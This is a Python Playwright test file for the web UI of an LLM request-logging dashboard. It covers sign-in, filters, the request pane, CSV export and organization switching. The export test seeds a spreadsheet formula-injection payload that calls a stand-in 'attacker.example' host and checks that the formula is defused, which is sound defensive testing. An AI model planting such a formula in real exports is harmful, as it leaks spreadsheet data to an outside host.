"""The UI in a real Chromium: sign-in, requests, filters, the request pane, export, the switcher."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

from helioscope.store.log import requests
from tests.ui.conftest import (
    SESSION_LOOP,
    T0,
    World,
    api,
    open_requests,
    row,
    shot,
    sign_in,
)

pytestmark = SESSION_LOOP


async def test_sign_in_refuses_a_bad_key_then_lists_requests(world: World, page: Any) -> None:
    await page.goto(f"{world.hs.url}/")
    await page.get_by_label("API key").fill("sk-helicone-not-a-real-key")
    await page.get_by_role("button", name="Sign in").click()
    await page.get_by_role("alert").filter(has_text="not valid").wait_for()
    await shot(page, "signin-error")
    await sign_in(page, world.hs.url, world.hs.key)
    await open_requests(page)
    total = await api(world, "POST", "/v1/request/count/query", {"filter": "all"})
    assert total == 12
    await page.get_by_text("12 requests").wait_for()
    assert await page.locator("table.data tbody tr").count() == 12
    assert await page.get_by_text("req-rival").count() == 0
    # A request from two days ago: in "All time", not in "Last 24 hours".
    await world.hs.services.store.log.write_batch(
        [row(world.hs.org_id, "req-old", 0, request_created_at=T0 - dt.timedelta(days=2))]
    )
    await page.get_by_role("button", name="Refresh").click()
    await page.get_by_text("13 requests").wait_for()
    await page.get_by_label("Time range").select_option("24h")
    await page.get_by_text("12 requests").wait_for()


async def test_filter_by_property_matches_the_api(world: World, page: Any) -> None:
    await sign_in(page, world.hs.url, world.hs.key)
    await open_requests(page)
    await page.get_by_role("button", name="Filters").click()
    await page.get_by_role("button", name="+ Condition").click()
    await page.get_by_label("Property name").fill("env")
    await page.get_by_label("Value for Property").fill("prod")
    await page.get_by_role("button", name="Apply filters").click()
    tree = {"request_response_rmt": {"properties": {"env": {"equals": "prod"}}}}
    expected = await api(world, "POST", "/v1/request/count/query", {"filter": tree})
    assert expected == 4  # three seeded rows and the gateway call
    await page.get_by_text(f"{expected} requests").wait_for()
    assert await page.locator("table.data tbody tr").count() == expected

    # An "or" group: env = prod, or model = gpt-4o (the hotel request is env=dev).
    await page.get_by_role("button", name="+ Group").click()
    group = page.get_by_role("group", name="Condition group")
    await group.get_by_label("Field").select_option("model")
    await group.get_by_label("Value for Model").fill("gpt-4o")
    await page.get_by_label("Combine conditions with").first.select_option("or")
    await page.get_by_role("button", name="Apply filters").click()
    either = {
        "left": tree,
        "operator": "or",
        "right": {"request_response_rmt": {"model": {"equals": "gpt-4o"}}},
    }
    assert await api(world, "POST", "/v1/request/count/query", {"filter": either}) == 5
    await page.get_by_text("5 requests").wait_for()
    await shot(page, "requests-filter-groups")


async def test_request_pane_renders_chat_tool_call_and_feedback(world: World, page: Any) -> None:
    await sign_in(page, world.hs.url, world.hs.key)
    await open_requests(page)
    await page.get_by_role("row", name=re.compile("req-trip-hotel")).click()
    pane = page.locator(".detail-pane")
    await pane.get_by_text("lookup_city").wait_for()
    await pane.get_by_role("img", name="image in the message").wait_for()
    assert await pane.get_by_text("You are a travel agent.").count() == 1
    # Scores read as people name them: the boolean's stored suffix is not shown.
    assert await pane.get_by_text("helpful", exact=True).count() == 1
    assert await pane.get_by_text("-hcone-bool").count() == 0
    # A pane beside the table, not a modal over it.
    assert await page.get_by_role("dialog").count() == 0
    assert await page.locator("table.data tbody tr").first.is_visible()
    await pane.get_by_role("button", name="Rate good").click()
    await pane.get_by_text("Rated good").wait_for()
    stored = await world.hs.services.store.log.org(world.hs.org_id).read(
        requests.get_request, "req-trip-hotel"
    )
    assert stored is not None and stored["feedback_rating"] is True
    await pane.get_by_role("tab", name="Response JSON").click()
    await pane.get_by_text('"lookup_city"', exact=False).first.wait_for()
    await page.keyboard.press("Escape")
    await pane.wait_for(state="hidden")
    assert "req-trip-hotel" not in page.url


async def test_export_csv_pages_through_the_filtered_set_and_defuses_formulas(
    world: World, page: Any
) -> None:
    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"click")'
    await world.hs.services.store.log.write_batch(
        [
            row(
                world.hs.org_id,
                "req-formula",
                20,
                user_id="+1-555",
                properties={"env": "dev", "note": formula},
            )
        ]
    )
    await sign_in(page, world.hs.url, world.hs.key)
    await open_requests(page)
    await page.get_by_role("button", name="Filters").click()
    await page.get_by_role("button", name="+ Condition").click()
    await page.get_by_label("Property name").fill("env")
    await page.get_by_label("Value for Property").fill("dev")
    await page.get_by_role("button", name="Apply filters").click()
    await page.get_by_text("8 requests").wait_for()
    async with page.expect_download() as info:
        await page.get_by_role("button", name="Export CSV").click()
    download = await info.value
    path = await download.path()
    table = list(csv.DictReader(io.StringIO(path.read_text())))
    assert len(table) == 8
    assert {r["request_id"] for r in table} >= {"req-trip-hotel", "req-bulk-0", "req-formula"}
    [defused] = [r for r in table if r["request_id"] == "req-formula"]
    # OWASP: a cell starting with = + - @ gets a leading ' and stays text; numbers stay numbers.
    assert defused["request_user_id"] == "'+1-555"
    assert defused["response_status"] == "200"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in table for v in r.values())


async def test_organization_switcher_scopes_every_page(world: World, page: Any) -> None:
    await sign_in(page, world.hs.url, world.hs.key, "Acme")
    await page.get_by_role("button", name="Add key").click()
    await sign_in(page, None, world.other_key, "Rival")
    await open_requests(page)
    await page.get_by_text("1 request", exact=True).wait_for()
    assert await page.get_by_text("req-trip-root").count() == 0
    await page.get_by_label("Organization").select_option(label="Acme")
    await page.get_by_text("12 requests").wait_for()


async def test_keyboard_opens_and_closes_the_pane(world: World, page: Any) -> None:
    await sign_in(page, world.hs.url, world.hs.key)
    await open_requests(page)
    hotel = page.get_by_role("row", name=re.compile("req-trip-hotel"))
    await hotel.focus()
    await page.keyboard.press("Enter")
    pane = page.locator(".detail-pane")
    await pane.get_by_text("lookup_city").wait_for()
    assert await page.evaluate("document.activeElement.id") == "pane-title"
    await page.keyboard.press("Escape")
    await pane.wait_for(state="hidden")
    assert "req-trip-hotel" in (await page.evaluate("document.activeElement.ariaLabel") or "")
